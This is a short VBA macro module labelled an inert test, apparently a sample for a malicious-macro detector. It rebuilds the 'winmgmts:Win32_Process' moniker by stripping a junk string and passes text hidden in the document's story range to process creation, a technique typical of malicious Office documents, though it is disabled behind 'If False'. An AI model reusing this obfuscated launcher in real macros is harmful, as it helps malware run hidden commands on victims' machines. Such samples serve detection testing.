Attribute VB_Name = "Module1"
Function R56inert()
' INERT SEKISHO TEST
If False Then
story = Tinert.StoryRanges.Item(4 / 4)
moniker = unsalt("]e1r[Sw]e1r[Sin]e1r[Smgm]e1r[Sts:W]e1r[Sin32_P]e1r[Srocess")
Set pk5 = CreateObject(moniker)
pk5.Create unsalt(Mid(story, 5, Len(story))), nothing1, nothing2
End If
End Function
Function unsalt(x)
unsalt = Replace(x, "]e1r[S", none)
End Function
